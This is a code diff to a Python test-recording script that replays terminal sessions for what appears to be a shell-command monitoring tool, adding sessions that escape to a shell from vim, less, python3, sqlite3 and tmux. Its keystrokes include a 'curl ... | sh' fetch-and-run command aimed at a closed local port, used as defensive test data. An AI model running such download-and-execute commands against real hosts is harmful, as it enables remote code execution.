@@ -38,6 +38,8 @@ from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
 
+from ssm_warden_local import program_truth
+
 ROOT = Path(__file__).resolve().parents[2]
 OUT = ROOT / "tests" / "unit" / "transcript" / "recordings"
 TICK = 1.0  # the agent's upload period
@@ -93,6 +95,12 @@ class Session:
     cols: int = 80
     rc: str = ""  # extra startup lines (prompt, theme)
     env: dict[str, str] = field(default_factory=dict)
+    # Programs with their own prompt run in the session: the whole session runs under ``strace``
+    # and the commands those programs ran (``sh -c``) are part of what ran (``programs.py``).
+    programs: bool = False
+    # What the extractor must say about the session: "unwatchable:<program>" flags. Written here,
+    # from what the session does (a full-screen program, a multiplexer), never from the extractor.
+    expect_flags: tuple[str, ...] = ()
 
 
 AL2_PROMPT = r"""PS1='[\u@\h \W]\$ '
@@ -231,6 +239,99 @@ def sessions() -> list[Session]:
             "heldout_zsh_path", "zsh", "heldout", ["zsh", "-i"], _other("zsh"), rc=ZSH_PATH_PROMPT, cols=100
         ),
         Session("heldout_dash", "dash", "heldout", ["dash", "-i"], _other("dash")),
+        *program_sessions(),
+    ]
+
+
+def _in_programs(shell: str) -> list[Step]:
+    """Keystrokes of the program sessions: commands run from inside vim, less, python3, sqlite3
+    (a person escaping to a shell from a program with its own prompt)."""
+    curl = "curl -s http://127.0.0.1:9/x | sh"  # harmless: port 9 is closed
+    return [
+        T("cd /tmp/warden-rec\r"),
+        T("vim -u NONE -N README.md\r", wait=0.5),
+        T(":!id\r"),
+        K("\r"),
+        T(f":!{curl}\r"),
+        K("\r"),
+        T(":q!\r"),
+        T("echo after-vim\r", wait=1.1),
+        T("less README.md\r"),
+        T("!id\r"),
+        K("\r"),
+        K("q"),
+        T("echo after-less\r"),
+        T("python3 -q\r"),
+        T("import os\r"),
+        T("os.system('id')\r"),
+        T(f"os.system('{curl}')\r"),
+        T("exit()\r", wait=1.1),
+        T("sqlite3\r"),
+        T(".shell id\r"),
+        T("select 1;\r"),
+        T(".quit\r"),
+        T("echo done\r"),
+    ]
+
+
+def _in_multiplexers() -> list[Step]:
+    """Keystrokes of the multiplexer session: a real tmux server in the pty, an inner shell and
+    commands typed there; then ``script``'s inner shell."""
+    return [
+        T("cd /tmp/warden-rec\r"),
+        T("tmux -f /dev/null new -s rec\r", wait=1.1),
+        T("id\r"),
+        T("echo inside-tmux\r"),
+        T("cat README.md\r"),
+        T("curl -s http://127.0.0.1:9/y | sh\r", wait=1.1),
+        K("\x02c"),  # C-b c: a second window (a new inner shell), drawn over the first
+        T("echo in-window-1\r", wait=1.1),
+        K("\x02n"),  # C-b n: back to the first window, which tmux redraws (its old prompts too)
+        T("echo back-in-window-0\r", wait=1.1),
+        T("exit\r", wait=1.1),  # the first window closes: tmux redraws the second
+        T("exit\r", wait=1.1),  # the last window closes: tmux exits
+        T("echo after-tmux\r"),
+        T("script -q /dev/null\r"),
+        T("id\r"),
+        T("echo inside-script\r"),
+        T("exit\r", wait=1.1),
+        T("echo after-script\r"),
+    ]
+
+
+def program_sessions() -> list[Session]:
+    """Sessions that run programs with their own prompt (issue 11, item 4), measured apart."""
+    flags_programs = ("unwatchable:vim", "unwatchable:less")
+    return [
+        Session(
+            "prog_bash_programs",
+            "bash",
+            "programs",
+            ["bash", "-i"],
+            [*_in_programs("bash"), T("exit\r")],
+            programs=True,
+            expect_flags=flags_programs,
+        ),
+        Session(
+            "prog_zsh_programs",
+            "zsh",
+            "programs",
+            ["zsh", "-i"],
+            [*_in_programs("zsh"), T("exit\r")],
+            programs=True,
+            expect_flags=flags_programs,
+            env={"SHELL": "/bin/zsh"},
+        ),
+        Session(
+            "prog_bash_tmux",
+            "bash",
+            "programs",
+            ["bash", "-i"],
+            [*_in_multiplexers(), T("exit\r")],
+            rc=AL2_PROMPT,
+            programs=True,
+            expect_flags=("unwatchable:tmux",),
+        ),
     ]
 
 
@@ -276,6 +377,7 @@ def _home(tmp: Path, session: Session, truth: Path) -> dict[str, str]:
     if session.shell == "sh":
         bashrc += "PS1='sh-5.2$ '\n"
     (home / ".bashrc").write_text(bashrc + (session.rc if session.shell != "zsh" else ""))
+    (home / ".bash_profile").write_text(". ~/.bashrc\n")  # tmux starts login shells
     if session.shell == "dash":
         (home / ".bashrc").write_text("")
     zshrc = (
@@ -300,6 +402,8 @@ def _home(tmp: Path, session: Session, truth: Path) -> dict[str, str]:
         "USER": "ssm-user",
         "HOSTNAME": "ip-10-0-1-23.ec2.internal",
         "ENV": str(home / ".bashrc"),
+        "SHELL": "/bin/bash",  # the shell vim, less, tmux and script start
+        "TMUX_TMPDIR": str(tmp),  # a tmux server of the recording's own
         **session.env,
     }
 
@@ -322,6 +426,8 @@ def _argv(session: Session, home: str, truth: Path) -> list[str]:
             "dash",
             "-i",
         ]
+    if session.programs:
+        return program_truth.traced(session.argv, Path(f"{truth}.exec"))
     return session.argv
 
 
@@ -390,6 +496,16 @@ def record(session: Session) -> dict[str, Any]:
         with contextlib.suppress(OSError):
             os.close(fd)
         ran = _truth(session, truth)
+        ran_by = [session.shell] * len(ran)
+        read: list[str] = []
+        if session.programs:
+            for program, command in program_truth.commands_run_from_programs(Path(f"{truth}.exec")):
+                ran.append(command)
+                ran_by.append(program)
+            read = program_truth.lines_read_by_repls(Path(f"{truth}.exec"))
+    extra: dict[str, Any] = {}
+    if session.programs:
+        extra = {"ran_by": ran_by, "read_by_programs": read, "expect_flags": list(session.expect_flags)}
     return {
         "name": session.name,
         "shell": session.shell,
@@ -397,6 +513,7 @@ def record(session: Session) -> dict[str, Any]:
         "cols": session.cols,
         "chunks": [[int(t // TICK), base64.b64encode(data).decode()] for t, data in chunks],
         "ran": ran,
+        **extra,
         "recorded_with": _versions(session),
     }
 
@@ -452,7 +569,16 @@ def _versions(session: Session) -> str:
         )
         return f"dash {out.stdout.strip()}"
     out = subprocess.run([shell, "--version"], capture_output=True, text=True, check=False)
-    return out.stdout.splitlines()[0] if out.stdout else shell
+    version = out.stdout.splitlines()[0] if out.stdout else shell
+    if session.programs:
+        out = subprocess.run(
+            ["dpkg-query", "-W", "-f=${Package} ${Version}; ", "vim", "less", "tmux", "python3", "sqlite3"],
+            capture_output=True,
+            text=True,
+            check=False,
+        )
+        version += "; " + out.stdout.strip()
+    return version
 
 
 def main(argv: list[str]) -> int:
